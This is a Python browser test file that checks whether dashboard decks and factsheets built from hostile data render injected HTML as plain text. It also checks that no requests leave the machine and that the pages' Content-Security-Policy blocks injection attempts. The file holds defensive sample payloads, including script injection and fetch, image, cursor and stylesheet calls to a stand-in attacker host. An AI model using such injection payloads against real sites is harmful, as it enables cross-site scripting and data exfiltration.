"""The deck and the factsheets built from hostile data, opened from disk in Chromium: every
point of every chart and map hovered, no live link or markup from the data anywhere, and no
request to anything but the file itself. Their Content-Security-Policy blocks what would
slip through anyway, without a console error on the files as they are."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from dashboard.data import load_dataset
from dashboard.viz.deck import deck_html
from dashboard.viz.factsheet import factsheet_html
from tests.browser.conftest import next_frames
from tests.browser.hover import WATCH_JS, Hovered, hover_every_point, live_markup
from tests.robustness.hostile import (
    EVIL_HOST,
    PLOTLY_PAYLOADS,
    hostile_env,
    write_hostile_copy,
)

pytestmark = pytest.mark.browser

# Every payload in every free-text cell: names, places, events and waves all carry a link, a
# style that fetches, an image, template references, entities and right-to-left text.
PAYLOAD = " ".join(PLOTLY_PAYLOADS)
# The deck's 1600×900 canvas and its 44 px controls: drawn unzoomed, as the charts measure.
DECK_VIEWPORT = {"width": 1600, "height": 944}
OWN_SCHEMES = ("file:", "data:", "about:")
VIOLATIONS_JS = """window.__violations = [];
document.addEventListener('securitypolicyviolation',
    e => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));"""
_DRAWN_JS = "() => document.body.dataset.drawn === 'true'"
# What a payload that slipped through would try: load an image, a cursor, a background and a
# stylesheet, run a script, and send a request.
ATTEMPTS_JS = f"""() => {{
    document.body.insertAdjacentHTML('beforeend',
        '<img src="http://{EVIL_HOST}/i">'
        + '<span id="cursor" style="position:fixed;top:0;left:0;z-index:9;'
        + 'cursor:url(http://{EVIL_HOST}/c),auto">x</span>'
        + '<div style="background:url(http://{EVIL_HOST}/b)">x</div>'
        + '<link rel="stylesheet" href="http://{EVIL_HOST}/s.css">');
    const script = document.createElement('script');
    script.textContent = 'window.__ran = true';
    document.body.append(script);
    fetch('http://{EVIL_HOST}/f').catch(() => null);
}}"""


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    """The Dutch and English decks and every Dutch factsheet of the hostile copy, on disk."""
    folder = tmp_path_factory.mktemp("offline")
    data = write_hostile_copy(folder / "data", [PAYLOAD])
    with pytest.MonkeyPatch.context() as patch:
        for name, value in hostile_env(data).items():
            patch.setenv(name, value)
        ds = load_dataset(data)
    written = {f"deck-{lang}": deck_html(ds, lang) for lang in ("nl", "en")}
    written |= {f"factsheet-{i}": factsheet_html(ds, i, "nl")
                for i in ds.initiatives["initiative_id"]}
    for name, html in written.items():
        (folder / f"{name}.html").write_text(html, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in written}


@pytest.fixture
def opened(browser) -> Iterator:
    """A function opening a file in a fresh page that records every request (the file's own
    excepted), aborts any that would leave the machine, and collects CSP violations, console
    errors and live markup added to the document."""
    context = browser.new_context(viewport=DECK_VIEWPORT)
    page = context.new_page()
    page.requests, page.sent, page.errors = [], [], []
    page.on("request", lambda r: None if r.url.startswith(OWN_SCHEMES)
            else page.requests.append(r.url))
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    page.on("console", lambda m: page.errors.append(m.text) if m.type == "error" else None)

    def route(request_route):
        if urlsplit(request_route.request.url).scheme == "file":
            request_route.continue_()
        else:
            page.sent.append(request_route.request.url)
            request_route.abort()

    page.route("**/*", route)
    page.add_init_script(WATCH_JS)
    page.add_init_script(VIOLATIONS_JS)

    def open_file(path: Path):
        page.goto(path.as_uri())
        return page

    yield open_file
    context.close()


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_every_point_of_the_deck_hovers_as_text_and_nothing_is_requested(files, opened, lang):
    page = opened(files[f"deck-{lang}"])
    page.wait_for_function(_DRAWN_JS, timeout=30_000)
    seen = Hovered()
    page.keyboard.press("Home")
    for _ in range(page.locator(".page").count()):
        hover_every_point(page, ".page.current", seen)
        page.keyboard.press("ArrowRight")
        next_frames(page)
    assert seen.live == [] and live_markup(page) == []
    assert page.requests == [] and page.sent == []
    assert seen.spots > 40  # every case map's places and partners, the networks, the timeline
    assert seen.unlabelled == []  # each spot hovered showed its label
    shown = " | ".join(seen.text)
    # the data's markup shows as the text it is
    assert f'<a href="http://{EVIL_HOST}/x">x</a>' in shown
    assert f"cursor:url(http://{EVIL_HOST}/c)" in shown
    assert "%{x} %{text} %{customdata}" in shown and "<b>vet</b> A&amp;B" in shown
    assert "\u2068" in shown  # right-to-left names stand apart from our words
    assert page.evaluate("window.__violations") == [] and page.errors == []


def test_every_factsheet_shows_hostile_text_as_text_and_requests_nothing(files, opened):
    sheets = [path for name, path in files.items() if name.startswith("factsheet-")]
    assert len(sheets) > 1
    for path in sheets:
        page = opened(path)
        assert page.locator("a, img, script, iframe").count() == 0, path.name
        assert f'<a href="http://{EVIL_HOST}/x">x</a>' in page.inner_text("h1"), path.name
        assert live_markup(page) == [], path.name
        assert page.requests == [] and page.sent == [], path.name
        assert page.evaluate("window.__violations") == [] and page.errors == [], path.name


@pytest.mark.parametrize("name", ["deck-nl", "factsheet-assen"])
def test_the_policy_blocks_every_request_and_foreign_script(files, opened, name):
    """What a payload would try if it reached the document as markup: blocked by the file's
    own policy before any request is made."""
    page = opened(files[name])
    if name.startswith("deck"):
        page.wait_for_function(_DRAWN_JS, timeout=30_000)
    page.evaluate(ATTEMPTS_JS)
    page.hover("#cursor")
    page.wait_for_function("window.__violations.length >= 6", timeout=10_000)
    blocked = sorted(page.evaluate("window.__violations"))
    assert blocked == sorted([
        f"connect-src http://{EVIL_HOST}/f", f"img-src http://{EVIL_HOST}/b",
        f"img-src http://{EVIL_HOST}/c", f"img-src http://{EVIL_HOST}/i",
        "script-src-elem inline", f"style-src-elem http://{EVIL_HOST}/s.css"])
    assert page.evaluate("window.__ran") is None
    assert page.sent == []  # nothing reached the network
